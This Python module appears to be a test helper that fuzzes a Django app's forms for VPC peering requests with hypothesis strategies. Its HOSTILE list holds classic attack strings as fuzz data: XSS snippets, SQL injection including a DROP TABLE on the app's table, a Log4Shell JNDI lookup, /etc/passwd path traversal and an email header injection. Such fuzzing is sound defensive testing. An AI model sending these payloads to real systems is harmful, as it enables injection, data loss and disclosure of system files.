"""The form fuzz's hostile input (hypothesis strategies), its settings, and posting a drawn form."""

from __future__ import annotations

import os
from typing import Any
from urllib.parse import quote

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

from tests.web.form_fuzz.world import (
    REQUEST,
    SPOKE,
    TABLES,
    VPC,
    Browser,
    World,
    rtb_id,
    vpc_id,
)

SCALE = float(os.environ.get("FORM_FUZZ_SCALE", "1"))


def fuzz(examples: int) -> settings:
    """Hypothesis settings for one form: `examples` examples, no deadline (a page takes what it takes)."""
    return settings(
        max_examples=max(1, int(examples * SCALE)),
        deadline=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,  # the world is built once per test, on purpose
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
        ],
        print_blob=True,
        # Shrinking finds the smallest failing input; explaining it (re-running variations) only costs time.
        phases=[phase for phase in Phase if phase is not Phase.explain],
    )


# --- hostile input ----------------------------------------------------------------------------------
def weighted(*choices: tuple[int, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """One of the strategies, chosen in proportion to its weight (st.one_of does not weigh its branches)."""
    slots = [i for i, (weight, _) in enumerate(choices) for _ in range(weight)]
    return st.sampled_from(slots).flatmap(lambda i: choices[i][1])


HOSTILE = [
    "",
    " ",
    "\t",
    "x" * 100_000,
    "\x00",
    "before\x00after",
    "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1b[31mred\x1b[0m\x7f\x85\x9f",
    "\r\n",
    "INC1\r\nBcc: attacker@example.com",
    "line one\nline two",
    "a\rb",
    "\u2028\u2029",
    "\u202egnp.exe\u202c",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\U0001f642\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 50,
    "\u4e2d\u6587 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "\ufffd\uffff\U0010ffff",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1",
    "'; DROP TABLE requests_app_peeringrequest; --",
    "%",
    "_",
    "\\",
    "{{ 7|add:7 }}{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n%x",
    "../../../../etc/passwd",
    "null",
    "None",
    "0",
    "-1",
    "99999999999999999999999999999",
    "1e309",
    "NaN",
    "[]",
    "{}",
    "true",
    "A" * 100,
    "A" * 101,
    "A" * 4000,
    "A" * 4001,
]
# Raw bytes that are no UTF-8 at all, as a client may send them.
RAW_BYTES = [b"\xff\xfe\xfd", b"caf\xe9", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"]

hostile = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=80))
hostile_or_bytes = st.one_of(hostile, st.sampled_from(RAW_BYTES))

CIDR_GARBAGE = [
    "10.0.0.0/33",
    "10.0.0.0/016",
    "::/0",
    " 10.0.0.0/16",
    "10.0.0.0/255.0.0.0",
    "10.0.0.0/0.0.255.255",
    "10.0.0.0/-1",
    "10.0.0.0/",
    "/16",
    "10.0.0.0",
    "10.0.0.256/16",
    "10.0.0.1/16",
    "0.0.0.0/0",
    "10.1.0.0/32",
    "10.1.2.3/32",
    "10.1.0.0/16/16",
    "fe80::/10",
    "2001:db8::/32",
    "::ffff:10.1.0.0/112",
    "10.1.0.0/16\x00",
    "\uff11\uff10.1.0.0/16",
    "\u0661\u0660.1.0.0/16",
    "10.1.0.0/\u0661\u0666",
    "10.1.0.0/1_6",
    "10.1.0.0/+16",
    "0x0a.1.0.0/16",
    "012.001.0.0/16",
    "10.1/16",
    "10.1.0.0/16%eth0",
    "fe80::1%eth0/64",
    "10.1.0.0/99999999999999999999",
    "10.1.0.0/16 " * 5000,
    " ".join(f"10.1.{i // 256}.{i % 256}/32" for i in range(2000)),
]
VALID_CIDRS = [
    "10.0.0.0/16",
    "10.0.1.0/24",
    "10.0.128.0/20",
    "10.1.0.0/16",
    "10.1.5.0/24",
    "10.11.0.0/16",
    "10.100.0.0/16",
    "10.2.0.0/16",
    "172.31.0.0/16",
    "10.1.0.0/17",
]
cidr = st.one_of(
    st.sampled_from(VALID_CIDRS),
    st.sampled_from(CIDR_GARBAGE),
    st.builds(lambda ip, p: f"{ip}/{p}", st.ip_addresses(), st.integers(-2, 130)),
    st.ip_addresses().map(str),
    hostile,
)
cidr_list = st.one_of(
    cidr,
    st.builds(
        lambda parts, sep: sep.join(parts),
        st.lists(cidr, max_size=5),
        st.sampled_from([" ", ",", ", ", "\n", "\r\n", "\t", ";", ",,"]),
    ),
)

known_vpcs = st.sampled_from(
    [
        *VPC.values(),
        *SPOKE.values(),
        vpc_id(999),
        "vpc-00000000000000000",
        VPC["app"].upper(),
        f" {VPC['app']} ",
        VPC["app"] + "\x00",
        "vpc-",
    ]
)
vpc_field = weighted((2, known_vpcs), (1, hostile))
known_tables = st.sampled_from([*TABLES.values(), rtb_id(999), "rtb-", TABLES["app-main"].upper()])
table_field = weighted((2, known_tables), (1, hostile))

# Names a form does not have, and names it has in another form.
EXTRA_NAMES = [
    "id",
    "pk",
    "status",
    "requested_by",
    "department",
    "decided_by",
    "aws_peering_connection_id",
    "check",
    "submit",
    "next",
    "comment",
    "is_superuser",
    "_save",
    "_continue",
    "_addanother",
    "_saveasnew",
    "_popup",
    "_to_field",
    "_changelist_filters",
    "csrfmiddlewaretoken_x",
]
extra_fields = st.lists(
    st.tuples(st.one_of(st.sampled_from(EXTRA_NAMES), st.text(min_size=1, max_size=20)), hostile_or_bytes),
    max_size=3,
).map(lambda pairs: [(k, v) for k, v in pairs if k != "csrfmiddlewaretoken"])
encoding = st.sampled_from(["urlencoded", "urlencoded", "multipart"])


def safe_for_multipart(pairs: list[tuple[str, Any]]) -> list[tuple[str, Any]]:
    """Django's test client writes a field's name into the multipart header unescaped (a browser escapes
    it): names with a quote or a line break would make a body no browser sends."""
    return [(k, v) for k, v in pairs if not any(c in k for c in '"\r\n\\')]


def sent(name: str, values: st.SearchStrategy[Any]) -> st.SearchStrategy[list[tuple[str, Any]]]:
    """A field as a browser may send it: mostly once, sometimes missing, sometimes repeated."""
    return st.sampled_from([1, 1, 1, 1, 0, 2]).flatmap(
        lambda n: st.lists(values, min_size=n, max_size=n).map(lambda vs: [(name, v) for v in vs])
    )


def form(*fields: st.SearchStrategy[list[tuple[str, Any]]]) -> st.SearchStrategy[list[tuple[str, Any]]]:
    """Every field drawn at once: mostly input no form accepts."""
    return st.tuples(*fields, extra_fields).map(lambda parts: [pair for part in parts for pair in part])


@st.composite
def mutated(
    draw: st.DrawFn, base: dict[str, list[Any]], fields: dict[str, st.SearchStrategy[Any]]
) -> list[tuple[str, Any]]:
    """A submission the form accepts, with up to two of its fields replaced, dropped or repeated: so
    the code behind the form (the rules, the plan, the use cases, the admin's saves) meets hostile
    input one field at a time, and not only the form's own validation."""
    data = {name: list(values) for name, values in base.items()}
    for name in draw(st.lists(st.sampled_from(sorted(fields)), max_size=2, unique=True)):
        how = draw(st.sampled_from(["replace", "replace", "replace", "drop", "repeat"]))
        if how == "drop":
            data[name] = []
        elif how == "repeat":
            data[name] = [*data.get(name, []), draw(fields[name])]
        else:
            data[name] = [draw(fields[name])]
    extras = draw(weighted((2, st.just([])), (1, extra_fields)))
    return [(name, value) for name, values in data.items() for value in values] + extras


def fuzzed(base: dict[str, list[Any]], fields: dict[str, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """Two in three near-valid submissions, the rest every field hostile at once."""
    return weighted((2, mutated(base, fields)), (1, form(*(sent(name, values) for name, values in fields.items()))))


def post(
    browser: Browser,
    path: str,
    pairs: list[tuple[str, Any]],
    *,
    page: str,
    enc: str,
    world: World | None = None,
    follow: bool = True,
) -> Any:
    if world is not None:
        pairs = [(k, world.value(v)) for k, v in pairs]
    if enc == "multipart":
        pairs = safe_for_multipart(pairs)
    return browser.post(path, pairs, page=page, encoding=enc, follow=follow)


def path_part(value: str | bytes) -> str:
    return quote(value, safe="")


path_value = st.one_of(hostile, st.sampled_from(RAW_BYTES))
known_request = st.sampled_from(list(REQUEST.values()))
